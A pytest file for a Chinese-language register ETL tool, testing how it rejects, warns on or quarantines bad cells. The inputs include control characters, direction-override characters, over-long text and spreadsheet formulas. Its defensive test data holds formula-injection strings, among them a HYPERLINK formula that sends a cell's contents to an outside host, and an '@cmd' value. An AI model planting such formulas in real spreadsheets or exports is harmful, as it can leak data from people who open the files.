"""Cells checked as text: control characters, formula-like text, length caps, real formulas,
and rows without a key — each a message naming the cell, rejected or quarantined whole."""

from __future__ import annotations

import datetime as dt
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from etl.load import LoadError, load
from etl.pipeline import prepare
from tests.helpers.registers import HEADERS, unit_row, write_csv

EXITMAP = str(Path(sys.executable).with_name("exitmap"))
D2021 = dt.date(2021, 12, 31)


def outcome(tmp_path: Path, *rows: dict[str, str]) -> list[tuple[int, str, list[str]]]:
    prepared = prepare([write_csv(tmp_path / "r.csv", list(rows))])
    return prepared.rows.select("row", "outcome", "messages").rows()


def messages_of(tmp_path: Path, **cells: str) -> tuple[str, list[str]]:
    ((_, status, messages),) = outcome(tmp_path, unit_row(1, **cells))
    return status, messages


# ---------------------------------------------------------------- rows without a key


def test_a_row_without_credit_code_or_equipment_number_is_rejected_with_its_reasons(tmp_path):
    rows = outcome(
        tmp_path,
        unit_row(1),
        unit_row(2, 统一社会信用代码="", 装备编号=""),
        # A stray note under the table: nothing but a remark.
        {**dict.fromkeys(HEADERS, ""), "备注": "以上数据截至6月底"},
    )
    assert [(r, s) for r, s, _ in rows] == [(2, "ok"), (3, "rejected"), (4, "rejected")]
    assert rows[1][2] == ["「统一社会信用代码」不能为空"]
    assert "「企业名称」不能为空" in rows[2][2] and "「统一社会信用代码」不能为空" in rows[2][2]
    assert all(isinstance(m, str) for _, _, ms in rows for m in ms)


@pytest.mark.parametrize("mode", [["--dry-run"], [], ["--partial"]])
def test_cli_reports_a_row_without_a_key_instead_of_crashing(engine, tmp_path, mode):
    path = write_csv(
        tmp_path / "half.csv", [unit_row(1), unit_row(2, 统一社会信用代码="", 装备编号="")]
    )
    env = {**os.environ, "DATABASE_URL": engine.url.render_as_string(hide_password=False)}
    run = subprocess.run(
        [EXITMAP, "load", str(path), "--as-of", "2021-12-31", *mode],
        env=env, capture_output=True, text=True,
    )  # fmt: skip
    assert "Traceback" not in run.stderr
    assert "half.csv 工作表「half」第 3 行：「统一社会信用代码」不能为空" in run.stderr
    assert run.returncode == 1
    with engine.connect() as conn:
        units = conn.execute(sa.text("SELECT count(*) FROM unit")).scalar_one()
        quarantined = conn.execute(sa.text("SELECT count(*) FROM quarantine_row")).scalar_one()
    assert (units, quarantined) == ((1, 1) if mode == ["--partial"] else (0, 0))


# ---------------------------------------------------------------- control characters


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("云南\x00钢铁有限公司", "U+0000 空字符"),
        ("云南\u202e司公限有铁钢", "U+202E 文字方向控制符"),
        ("云南\u2066钢铁\u2069有限公司", "U+2066 文字方向控制符"),
        ("云南\x07钢铁有限公司", "U+0007 控制字符"),
        ("云南\x1b[31m钢铁", "U+001B 控制字符"),
    ],
)
def test_control_characters_reject_the_row_naming_the_cell(tmp_path, text, named):
    status, messages = messages_of(tmp_path, 企业名称=text)
    assert status == "rejected"
    assert f"「企业名称」列含有不可见的{named}，请删除后重新填写" in messages


def test_tabs_and_line_breaks_inside_text_are_not_controls(tmp_path):
    status, messages = messages_of(
        tmp_path, 备注="第一行\n第二行\t附注", 详细地址="昆明市\r\n五华区"
    )
    assert (status, messages) == ("ok", [])


def test_no_message_carries_a_control_character(tmp_path):
    # Quoted values are made visible: a message may go to a terminal, a CSV and PostgreSQL.
    status, messages = messages_of(tmp_path, 当前状态="在\x00产\u202e", county="五\x00华区")
    assert status == "rejected"
    assert any("「当前状态」列的值「在\ufffd产\ufffd」不在可选范围内" in m for m in messages)
    assert not any(ch in m for m in messages for ch in ("\x00", "\u202e"))


def test_nul_is_refused_before_the_database_in_strict_mode(engine, tmp_path):
    path = write_csv(tmp_path / "nul.csv", [unit_row(1), unit_row(2, 企业名称="乙\x00公司")])
    prepared = prepare([path])
    assert prepared.counts() == {"ok": 1, "warning": 0, "rejected": 1}
    with pytest.raises(LoadError, match="1 行被拒绝"):
        load(engine, prepared, D2021)


def test_nul_rows_are_quarantined_whole_under_partial(engine, tmp_path):
    path = write_csv(
        tmp_path / "nul.csv",
        [unit_row(1), unit_row(2, 企业名称="乙\x00公司", 联系人="张\x00三")],
    )
    summary = load(engine, prepare([path]), D2021, partial=True)
    assert (summary.inserted, summary.quarantined) == (1, 1)
    with engine.connect() as conn:
        raw, reasons = conn.execute(sa.text("SELECT raw, reasons FROM quarantine_row")).one()
    # NUL cannot be stored in PostgreSQL text; it is shown as U+FFFD, everything else kept.
    assert (raw["企业名称"], raw["联系人"]) == ("乙\ufffd公司", "张\ufffd三")
    assert "「企业名称」列含有不可见的U+0000 空字符" in reasons
    assert "「联系人」列含有不可见的U+0000 空字符" in reasons


# ---------------------------------------------------------------- formula-like text


@pytest.mark.parametrize(
    "name", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", '=HYPERLINK("http://x.cn/?"&A1,"点我")']
)
def test_formula_like_names_warn_naming_the_cell(tmp_path, name):
    status, messages = messages_of(tmp_path, 企业名称=name)
    assert status == "warning"
    shown = name if len(name) <= 50 else name[:50] + "…"
    assert messages == [
        f"「企业名称」列的值「{shown}」以「{name[0]}」开头，可能被电子表格当作公式执行，请核实"
    ]


def test_a_negative_number_is_a_number_problem_not_a_formula(tmp_path):
    status, messages = messages_of(tmp_path, capacity="-2")
    assert status == "rejected"
    assert messages == ["「产能（万吨/年）」列的值「-2」不能为负数"]


def test_dashes_meaning_nothing_are_not_formulas(tmp_path):
    assert messages_of(tmp_path, 备注="-", 规格型号="--") == ("ok", [])


# ---------------------------------------------------------------- length


def test_text_longer_than_its_column_allows_is_rejected_without_quoting_it(tmp_path):
    status, messages = messages_of(tmp_path, 企业名称="云" * 201, 备注="备" * 1000)
    assert status == "rejected"
    assert messages == ["「企业名称」列的内容有 201 字，超过上限 200 字，请精简"]
    status, messages = messages_of(tmp_path, 备注="备" * 1001)
    assert messages == ["「备注」列的内容有 1001 字，超过上限 1,000 字，请精简"]


def test_any_cell_is_bounded_by_the_cell_setting(tmp_path, monkeypatch):
    monkeypatch.setenv("EXITMAP_MAX_CELL_CHARS", "100")
    status, messages = messages_of(tmp_path, 联系人="张" * 101, 企业名称="云" * 101)
    assert status == "rejected"
    assert messages == [
        "「企业名称」列的内容有 101 字，超过上限 100 字，请精简",
        "「联系人」列的内容有 101 字，超过上限 100 字，请精简",
    ]


def test_an_unreadable_value_is_quoted_short(tmp_path):
    status, messages = messages_of(tmp_path, 当前状态="开" * 80)
    assert status == "rejected"
    assert messages == [
        f"「当前状态」列的值「{'开' * 50}…」不在可选范围内"
        "（可选：在产、整改中、延期整改、停产、已关停、已拆除、已改造达标、已转产）"
    ]


# ---------------------------------------------------------------- real formulas


def formula_register(path: Path) -> Path:
    """Rows 2–4 are units; row 5 sums them. Formulas: 企业名称 in row 3 (no saved result,
    as openpyxl writes them), 职工人数 in row 4 (a saved result, as Excel writes them)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "登记表"
    sheet.append(HEADERS)
    for serial in (1, 2, 3):
        row = unit_row(serial)
        sheet.append([row[h] for h in HEADERS])
    sheet.append(["合计"] + [None] * (len(HEADERS) - 1))
    name_col = HEADERS.index("企业名称") + 1
    workers_col = HEADERS.index("职工人数") + 1
    sheet.cell(row=3, column=name_col).value = '="云南"&"测试2号钢铁有限公司"'
    sheet.cell(row=4, column=workers_col).value = "=100+20"
    sheet.cell(row=5, column=workers_col).value = "=SUM(U2:U4)"
    book.save(path)
    # Give the 职工人数 formula the result Excel would have saved with it.
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"]
    assert b"<f>100+20</f><v></v>" in xml
    parts["xl/worksheets/sheet1.xml"] = xml.replace(
        b"<f>100+20</f><v></v>", b"<f>100+20</f><v>120</v>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def test_formulas_in_a_register_are_named_not_read_as_empty(tmp_path):
    prepared = prepare([formula_register(tmp_path / "f.xlsx")])
    got = {r: (s, m) for r, s, m in prepared.rows.select("row", "outcome", "messages").rows()}
    assert got[2] == ("ok", [])
    assert got[3] == (
        "rejected",
        ["「企业名称」列第3行是公式（文件中没有计算结果），请粘贴为数值", "「企业名称」不能为空"],
    )
    assert got[4] == (
        "warning",
        ["「职工人数」列第4行是公式，已按文件保存的结果读取；请粘贴为数值"],
    )
    assert prepared.rows.filter(row=4)["workers"].item() == 120
    # The 合计 row with its SUM is no data row: no message about it.
    assert set(got) == {2, 3, 4}
